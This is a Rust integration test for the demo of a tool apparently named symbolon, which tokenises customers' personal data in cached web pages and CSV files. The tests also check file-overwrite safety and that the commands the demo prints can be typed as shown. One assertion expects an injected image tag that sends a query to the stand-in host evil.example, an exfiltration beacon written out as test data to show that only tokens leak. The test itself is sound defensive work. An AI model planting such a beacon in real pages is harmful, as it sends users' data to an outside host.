//! The demo from end to end, as a newcomer runs it. (It checks its own results, and fails where one is not as promised.)
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::{
    fs,
    path::Path,
    process::{Command, Output},
};

fn demo(dir: &Path, args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_symbolon"));
    command.current_dir(dir).arg("demo").args(args).output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// The names of what is in a directory.
fn names(dir: &Path) -> Vec<String> {
    let entries = fs::read_dir(dir).unwrap();
    let mut names: Vec<_> = entries.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

/// Everything that it promises is there; a second run is refused, and with --force replaces its own files only.
#[test]
fn from_end_to_end() {
    let dir = tempfile::tempdir().unwrap();
    let output = demo(dir.path(), &[]);
    let said = text(&output.stdout);
    assert!(output.status.success(), "{said}\n{}", text(&output.stderr));
    let made = dir.path().join("symbolon-demo");
    let read = |name: &str| fs::read_to_string(made.join(name)).unwrap();

    let (cached, alice, bob) =
        (read("order-page.protected.html"), read("order-page.alice.html"), read("order-page.bob.html"));
    for hers in ["山田 花子", "葛飾区青戸", "4242424242424242", "alice@example.com", "星座早見盤"] {
        assert!(alice.contains(hers) && !bob.contains(hers) && !cached.contains(hers), "{hers}");
    }
    for page in [&cached, &alice, &bob] {
        assert!(page.contains("<img alt=\"\" src=\"https://evil.example/?q=sym_"));
    }
    assert!(read("orders.alice.csv").contains("山田 花子") && !read("orders.alice.csv").contains("Robert"));
    assert!(!read("customers.protected.csv").contains("@example."));
    assert!(said.contains("Alice reads") && said.contains("Next: protect your own file"));

    let (files, page) = (names(&made), cached);
    let again = demo(dir.path(), &[]);
    assert_eq!(again.status.code(), Some(1));
    assert!(text(&again.stderr).contains("is not empty"), "{}", text(&again.stderr));
    assert_eq!(read("order-page.protected.html"), page);

    fs::write(made.join("mine.txt"), "mine").unwrap();
    let forced = demo(dir.path(), &["--force"]);
    assert!(forced.status.success(), "{}", text(&forced.stderr));
    assert_eq!(read("mine.txt"), "mine");
    assert_ne!(read("order-page.protected.html"), page);
    assert_eq!(names(&made).len(), files.len() + 1);
}

/// The commands that it shows are commands: typed by hand they do the same.
#[test]
fn what_it_shows_can_be_typed() {
    let dir = tempfile::tempdir().unwrap();
    let said = text(&demo(dir.path(), &["--dir", "a b"]).stdout);
    assert!(said.contains("$ cd 'a b'\n"), "{said}");
    let lines: Vec<_> = said.lines().filter_map(|line| line.strip_prefix("$ symbolon ")).collect();
    assert_eq!(lines.len(), 8, "{said}");
    let made = dir.path().join("a b");
    for line in lines.iter().filter(|line| line.starts_with("login") || line.starts_with("reveal order-page")) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_symbolon"));
        let output = command.current_dir(&made).args(line.split(' ')).arg("--force").output().unwrap();
        assert!(output.status.success(), "{line}: {}", text(&output.stderr));
    }
    assert!(fs::read_to_string(made.join("order-page.alice.html")).unwrap().contains("山田 花子"));
}

/// A directory that somebody else filled is left alone, with --force as well.
#[test]
fn somebody_elses_directory_is_left_alone() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("shop.keyring"), "precious").unwrap();
    for args in [vec!["--dir", "."], vec!["--dir", ".", "--force"]] {
        let output = demo(dir.path(), &args);
        assert!(!output.status.success());
        assert_eq!(fs::read_to_string(dir.path().join("shop.keyring")).unwrap(), "precious");
        assert_eq!(names(dir.path()), ["shop.keyring"]);
    }
}
